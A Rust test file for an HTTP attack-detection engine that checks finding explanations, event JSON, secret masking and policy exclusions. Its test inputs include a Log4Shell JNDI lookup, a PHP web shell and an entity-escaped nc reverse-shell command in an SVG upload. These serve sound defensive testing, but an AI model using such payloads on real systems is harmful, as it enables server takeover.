//! Explainable and private: every finding of every case says where, how, what and why; secrets are never shown.

mod engine;

use engine::{label, requests, through_transaction};
use sidewatch::decode;
use sidewatch::detect::Class;
use sidewatch::http::{Messages, Version};
use sidewatch::{Engine, Finding, Policy, Verdict};
use std::collections::BTreeSet;

/// Formats and readings that may stand where a decoder does.
const READINGS: &[&str] = &["json", "jwt", "graphql", "pollution", "concat"];

#[test]
fn every_finding_explains_itself() {
    let engine = Engine::default();
    let mut transaction = engine.transaction();
    let mut number = 0;
    for case in requests() {
        for finding in through_transaction(&mut transaction, &[&case.bytes()]).findings {
            let name = format!("{}: {finding:#?}", case.name);
            number += 1;
            let part = finding.point.split(['.', '|', '[', '#']).next().unwrap_or_default();
            let parts = ["method", "target", "path", "query", "header", "cookie", "body", "raw"];
            assert!(parts.contains(&part), "{name}");
            for decoder in finding.decoders() {
                let known = decode::Decoder::from_name(decoder).is_some() || READINGS.contains(&decoder);
                assert!(known, "{name}");
            }
            let kebab = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-';
            let technique = finding.technique;
            assert!(
                technique.len() >= 3 && technique.chars().all(kebab) && !technique.contains("--"),
                "{name}"
            );
            assert!(
                technique.starts_with(|c: char| c.is_ascii_lowercase()) && !technique.ends_with('-'),
                "{name}"
            );
            assert!((1..=100).contains(&finding.confidence) && finding.length > 0, "{name}");
            assert!(!finding.excerpt.is_empty(), "{name}");
            let shown = finding.excerpt.chars().count();
            assert!(shown <= 4 * engine.policy().limits.excerpt + 2, "{name}: {shown} characters");
            assert!(!finding.excerpt.chars().any(char::is_control), "{name}");
            let words = finding.reason.split_whitespace().count();
            assert!((4..=60).contains(&words) && finding.reason.len() <= 400, "{name}: {words} words");
            assert!(!finding.reason.chars().any(char::is_control), "{name}");
            assert!(Class::from_name(finding.class.name()) == Some(finding.class), "{name}");
        }
    }
    assert!(number > 30, "only {number} findings");
}

#[test]
fn events_say_what_the_transaction_says() {
    let mut transaction = Engine::default().transaction();
    for case in requests() {
        let told = through_transaction(&mut transaction, &[&case.bytes()]);
        let event: serde_json::Value = serde_json::from_str(&told.json).expect("an event is JSON");
        assert!(!told.json.contains('\n'), "{}: an event is one line", case.name);
        assert_eq!(event["schema"], "sidewatch.event/1");
        assert_eq!(event["verdict"], told.verdict.name(), "{}", case.name);
        let findings = event["findings"].as_array().expect("a list");
        assert_eq!(findings.len(), told.findings.len(), "{}", case.name);
        for (shown, finding) in findings.iter().zip(&told.findings) {
            assert_eq!(shown["class"], finding.class.name());
            assert_eq!(shown["technique"], finding.technique);
            assert_eq!(shown["point"], finding.point);
            assert_eq!(shown["offset"], finding.offset);
            assert_eq!(shown["confidence"], finding.confidence);
            assert_eq!(shown["excerpt"], finding.excerpt);
            assert_eq!(shown["reason"], *finding.reason);
            assert_eq!(shown["tokens"], finding.tokens);
            assert!(!finding.tokens.is_empty(), "{}: no tokens: {finding:?}", case.name);
            let decoders: Vec<&str> =
                shown["decoders"].as_array().expect("a list").iter().filter_map(|d| d.as_str()).collect();
            assert_eq!(decoders, finding.decoders().collect::<Vec<_>>());
        }
        let classes: Vec<&str> =
            event["classes"].as_array().expect("a list").iter().filter_map(|c| c.as_str()).collect();
        // Of an attack, the classes that reach the sensitivity; of anything else, those of the hints.
        let line = if told.verdict == Verdict::Attack { engine::ATTACK } else { 0 };
        let telling = |f: &&Finding| f.confidence >= line;
        let names: BTreeSet<_> = told.findings.iter().filter(telling).map(|f| f.class.name()).collect();
        assert!(names.into_iter().eq(classes), "{}: {}", case.name, told.json);
        let anomalies: Vec<&str> =
            event["anomalies"].as_array().expect("a list").iter().filter_map(|a| a.as_str()).collect();
        assert_eq!(anomalies, told.anomalies);
    }
}

#[test]
fn secrets_are_shown_nowhere() {
    let open = Engine::new(Policy::from_toml("[masking]\nenabled = false").expect("a policy"));
    let (mut masked, mut bare) = (Engine::default().transaction(), open.transaction());
    let (mut seen, mut kept) = (0, 0);
    for case in requests() {
        let bytes = case.bytes();
        let told = through_transaction(&mut masked, &[&bytes]);
        let debug = format!("{:?}", told.findings);
        let unmasked = through_transaction(&mut bare, &[&bytes]).json;
        for secret in &case.secrets {
            assert!(bytes.windows(secret.len()).any(|w| w == secret.as_bytes()), "{}: {secret}", case.name);
            assert!(!told.json.contains(secret.as_str()), "{}: {secret} in {}", case.name, told.json);
            assert!(!debug.contains(secret.as_str()), "{}: {secret} in {debug}", case.name);
            seen += usize::from(unmasked.contains(secret.as_str()));
            kept += 1;
        }
    }
    // Without masking most of them would be shown: the cases do test it.
    assert!(kept >= 8 && seen * 2 >= kept, "{seen} of {kept} would have been shown");
}

#[test]
fn an_attack_at_a_secret_keeps_its_shape() {
    let mut transaction = Engine::default().transaction();
    for case in requests().iter().filter(|case| case.name == "password with SQL") {
        let told = through_transaction(&mut transaction, &[&case.bytes()]);
        let finding = told.findings.iter().find(|f| label(f) == "sqli body.form.password").expect("found");
        assert!(finding.excerpt.contains('\'') && finding.excerpt.contains('*'), "{}", finding.excerpt);
        assert!(!finding.excerpt.contains(|c: char| c.is_ascii_alphanumeric()), "{}", finding.excerpt);
    }
}

#[test]
fn exclusions_hold_for_every_part_of_a_request() {
    let policy = "[[exclusions]]\nclasses = [\"rce\"]\npoint = \"*.note\"\nhost = \"a.example\"";
    let engine = Engine::new(Policy::from_toml(policy).expect("a policy"));
    let run = |field: &str| {
        let mut transaction = engine.transaction();
        transaction.request_line(
            b"POST",
            format!("/?{field}=${{jndi:ldap://198.51.100.7/o}}").as_bytes(),
            Version::Http11,
        );
        transaction.request_header(b"Host", b"a.example");
        transaction.request_header(b"Content-Type", b"application/json");
        transaction.request_head_end();
        transaction.request_body(format!("{{\"{field}\":\"${{jndi:ldap://198.51.100.7/o}}\"}}").as_bytes());
        transaction.request_end();
        (transaction.verdict(), transaction.findings().len())
    };
    assert_eq!(run("note"), (Verdict::Pass, 0));
    assert_eq!(run("other"), (Verdict::Attack, 2));
}

#[test]
fn one_instruction_is_one_attack_unless_its_class_is_excluded() {
    let found = |policy: &str, name: &str, content: &str| {
        let engine = Engine::new(Policy::from_toml(policy).expect("a policy"));
        let mut transaction = engine.transaction();
        transaction.request_line(b"POST", b"/files", Version::Http11);
        transaction.request_header(b"Host", b"a.example");
        transaction.request_header(b"Content-Type", b"multipart/form-data; boundary=q");
        transaction.request_head_end();
        let body = format!(
            "--q\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\n{content}\r\n--q--\r\n"
        );
        transaction.request_body(body.as_bytes());
        transaction.request_end();
        let mut classes: Vec<&str> =
            transaction.findings().iter().filter(|f| f.confidence >= 50).map(|f| f.class.name()).collect();
        classes.dedup();
        classes
    };
    let shell = "<?php system($_GET['run']); ?>";
    assert_eq!(found("", "a.txt", shell), ["upload"]);
    let excluded = "[[exclusions]]\nclasses = [\"upload\"]\npoint = \"*.f\"\nhost = \"a.example\"";
    assert_eq!(found(excluded, "a.txt", shell), ["rce"]);
    // Escapes are part of a document: what they hide is carried all the same.
    let drawing = "<svg><image xlink:href=\"&#x7c;nc 192.0.2.7 4444 -e &#x2f;bin&#x2f;sh\"/></svg>";
    assert_eq!(found("", "a.svg", drawing), ["upload"]);
}
